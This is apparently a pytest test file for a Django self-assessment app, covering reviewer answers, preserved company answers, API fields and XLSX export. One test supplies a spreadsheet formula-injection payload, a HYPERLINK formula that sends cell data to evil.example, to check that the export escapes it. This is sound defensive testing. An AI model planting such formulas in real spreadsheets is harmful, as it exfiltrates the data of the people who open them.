"""The programme completes a submitted company self-assessment: it answers the indicators the
company left blank, a cleared value never loses the company's answer, who recorded each answer is
shown (the company's contact for its own), and the API and the XLSX carry the company's answer
next to the reviewed one. The XLSX never turns typed text into a formula."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from tests import factories
from tests.assessments.conftest import indicator_ids

pytestmark = pytest.mark.django_db

P = "/p/mekong/assessments"
A = "/api/v1/assessments"
COMPANY = "Anong S. (company, via private link)"


def _submitted(cast: Any, org: Any, **company: Any) -> Any:
    """A link of Anong S. submitted with every level-1 indicator met (and ``company`` fields)."""
    from partnerpath.assessments import selfassess

    link = selfassess.invite(org, cast.member, factories.contact(org, "Anong S."))
    selfassess.submit(link, {i: {"value": "met", **company} for i in indicator_ids(1)})
    return link


def _answer_page(assessment: Any, **override: dict[str, str]) -> dict[str, str]:
    """The answer page's POST as a browser sends it: every stored answer as it is, then
    ``override`` (indicator -> fields)."""
    data = {"details-assessed_on": assessment.assessed_on.isoformat()}
    for a in assessment.answers.all():
        data.update({f"{a.indicator_id}-value": a.value, f"{a.indicator_id}-note": a.note})
        data.update({f"{a.indicator_id}-evidence_url": a.evidence_url})
        data.update({f"{a.indicator_id}-quote": a.quote})
    for ind, fields in override.items():
        data.update({f"{ind}-{k}": v for k, v in fields.items()})
    return data


def test_the_reviewer_answers_the_indicators_the_company_left_blank(cast, org, client_for):
    link = _submitted(cast, org)
    blank = indicator_ids(2)[0]
    member = client_for(cast.member)
    detail = member.get(f"{P}/{link.assessment.pk}/").content.decode()
    assert f"{P}/{link.assessment.pk}/review/" in detail
    assert f"{P}/{link.assessment.pk}/answers/" in detail  # with evidence, on the answer page
    review = member.get(f"{P}/{link.assessment.pk}/review/").content.decode()
    assert f'name="review-{blank}"' in review and "The company left this blank." in review
    form = {f"review-{i}": "met" for i in indicator_ids(1)}
    form.update({f"review-{blank}": "partly", f"review-{indicator_ids(2)[1]}": ""})
    response = member.post(f"{P}/{link.assessment.pk}/review/", form, follow=True)
    assert "1 left blank by the company answered" in response.content.decode()
    added = link.assessment.answers.get(indicator_id=blank)
    assert (added.value, added.claimed_value, added.review) == ("partly", "", "")
    assert added.recorded_by == cast.member
    assert link.assessment.answers.count() == len(indicator_ids(1)) + 1


def test_the_answer_page_completes_a_submitted_self_assessment(cast, org, client_for):
    link = _submitted(cast, org)
    blank = indicator_ids(2)[0]
    member = client_for(cast.member)
    assert member.get(f"{P}/{link.assessment.pk}/answers/").status_code == 200
    evidence = {"value": "met", "evidence_url": "https://example.org/audit"}
    member.post(
        f"{P}/{link.assessment.pk}/answers/", _answer_page(link.assessment, **{blank: evidence})
    )
    added = link.assessment.answers.get(indicator_id=blank)
    assert (added.value, added.evidence_url, added.recorded_by) == (
        "met",
        "https://example.org/audit",
        cast.member,
    )
    untouched = link.assessment.answers.get(indicator_id=indicator_ids(1)[0])
    assert (untouched.review, untouched.recorded_by) == ("pending", None)


def test_clearing_a_company_answer_keeps_it_and_sends_it_back_to_review(
    cast, org, client_for, api_for
):
    from partnerpath.assessments import selfassess

    link = _submitted(cast, org)
    first, second = indicator_ids(1)[:2]
    selfassess.review(link.assessment, {first: "not_met", second: "partly"}, cast.member)
    member = client_for(cast.member)
    cleared = {"value": "", "note": "", "evidence_url": "", "quote": ""}
    member.post(
        f"{P}/{link.assessment.pk}/answers/", _answer_page(link.assessment, **{first: cleared})
    )
    kept = link.assessment.answers.get(indicator_id=first)
    assert (kept.claimed_value, kept.value, kept.review) == ("met", "met", "pending")
    assert kept.reviewed_by is None
    api = api_for(cast.member)
    body = [{"indicator": second, "value": ""}]
    assert api.post(f"{A}/{link.assessment.pk}/answers/", body, format="json").status_code == 200
    kept = link.assessment.answers.get(indicator_id=second)
    assert (kept.claimed_value, kept.value, kept.review) == ("met", "met", "pending")
    assert link.assessment.answers.count() == len(indicator_ids(1))


def test_changing_a_company_answer_on_the_answer_page_reviews_it(cast, org, client_for):
    link = _submitted(cast, org)
    first = indicator_ids(1)[0]
    member = client_for(cast.member)
    changed = {"value": "partly"}
    member.post(
        f"{P}/{link.assessment.pk}/answers/", _answer_page(link.assessment, **{first: changed})
    )
    answer = link.assessment.answers.get(indicator_id=first)
    assert (answer.claimed_value, answer.value, answer.review) == ("met", "partly", "adjusted")
    assert answer.reviewed_by == cast.member and answer.reviewed_at is not None


def test_company_answers_say_who_gave_them_on_the_page_and_in_the_export(cast, org, client_for):
    link = _submitted(cast, org)
    viewer = client_for(cast.viewer)
    page = viewer.get(f"{P}/{link.assessment.pk}/").content.decode()
    assert f"Recorded by {COMPANY}" in page
    wb = load_workbook(io.BytesIO(viewer.get(f"{P}/{link.assessment.pk}/export.xlsx").content))
    rows = list(wb["Answers"].iter_rows(values_only=True))
    col = rows[0].index("recorded by")
    first = next(r for r in rows if r[1] == indicator_ids(1)[0])
    assert first[col] == COMPANY


def test_the_export_keeps_the_company_answer_next_to_the_reviewed_one(cast, org, client_for):
    from partnerpath.assessments import selfassess

    link = _submitted(cast, org)
    first, second = indicator_ids(1)[:2]
    selfassess.review(link.assessment, {first: "met", second: "partly"}, cast.member)
    response = client_for(cast.viewer).get(f"{P}/{link.assessment.pk}/export.xlsx")
    rows = list(load_workbook(io.BytesIO(response.content))["Answers"].iter_rows(values_only=True))
    head = rows[0]
    assert head[-4:] == ("company's answer", "review", "reviewed by", "reviewed at")
    by_id = {r[1]: dict(zip(head, r, strict=True)) for r in rows[1:]}
    adjusted = by_id[second]
    assert (adjusted["answer"], adjusted["company's answer"], adjusted["review"]) == (
        "partly",
        "met",
        "adjusted",
    )
    assert adjusted["reviewed by"] == cast.member.get_username()
    assert adjusted["reviewed at"] is not None
    assert by_id[indicator_ids(1)[2]]["review"] == "to review"
    assert by_id[indicator_ids(2)[0]]["company's answer"] is None  # not answered


def test_company_text_never_becomes_a_formula_in_the_export(cast, org, client_for):
    link = _submitted(
        cast,
        org,
        note='=HYPERLINK("https://evil.example/?x="&A1,"click")',
        quote="=1+1",
    )
    response = client_for(cast.viewer).get(f"{P}/{link.assessment.pk}/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content))["Answers"]
    head = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == indicator_ids(1)[0])
    note, quote = row[head.index("note")], row[head.index("quote")]
    assert (note.data_type, quote.data_type) == ("s", "s")
    assert quote.value == "'=1+1"
    assert note.value.startswith("'=HYPERLINK(")
    formulas = [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []


def test_the_api_shows_the_company_answer_next_to_the_reviewed_one(cast, org, api_for):
    from partnerpath.assessments import selfassess

    link = _submitted(cast, org)
    first, second = indicator_ids(1)[:2]
    selfassess.review(link.assessment, {first: "met", second: "not_met"}, cast.member)
    body = api_for(cast.viewer).get(f"{A}/{link.assessment.pk}/").json()
    assert body["source"] == "company"
    answers = {a["indicator"]: a for a in body["answers"]}
    assert answers[second] | {"updated_at": None, "reviewed_at": None} == answers[second] | {
        "value": "not_met",
        "claimed_value": "met",
        "review": "adjusted",
        "reviewed_by": cast.member.get_username(),
        "recorded_by": None,
        "recorded_by_label": COMPANY,
        "updated_at": None,
        "reviewed_at": None,
    }
    assert answers[second]["reviewed_at"] is not None
    assert answers[indicator_ids(1)[2]]["review"] == "pending"
    # read-only: a client cannot set the company's answer or a review through answers/
    api = api_for(cast.member)
    sneaky = [{"indicator": first, "value": "partly", "claimed_value": "x", "review": "accepted"}]
    api.post(f"{A}/{link.assessment.pk}/answers/", sneaky, format="json")
    answer = link.assessment.answers.get(indicator_id=first)
    assert (answer.claimed_value, answer.value, answer.review) == ("met", "partly", "adjusted")


def test_the_list_of_company_self_assessments_runs_the_same_queries_for_3_and_30(cast, api_for):
    client = api_for(cast.viewer)

    def grow(n: int) -> None:
        for i in range(n):
            org = factories.organisation(cast.programme, name=f"Org {i}-{n}")
            _submitted(cast, org)

    grow(3)
    with CaptureQueriesContext(connection) as small:
        assert client.get(f"{A}/?programme=mekong").status_code == 200
    grow(27)
    with CaptureQueriesContext(connection) as large:
        body = client.get(f"{A}/?programme=mekong&page_size=50").json()
    assert body["count"] == 30
    assert body["results"][0]["answers"][0]["recorded_by_label"] == COMPANY
    assert len(large) == len(small)


def test_the_company_result_counts_only_the_company_answers(cast, org):
    from partnerpath.assessments import selfassess, services

    link = _submitted(cast, org, evidence_url="https://example.org/csr")
    level_2 = {"value": "met", "evidence_url": "https://example.org/audit"}
    services.save_answers(link.assessment, dict.fromkeys(indicator_ids(2), level_2), cast.member)
    link.assessment.refresh_from_db()
    assert link.assessment.level == 2  # the programme's answers make the assessment's result
    assert selfassess.company_result(link).level == 1  # the company sees its own
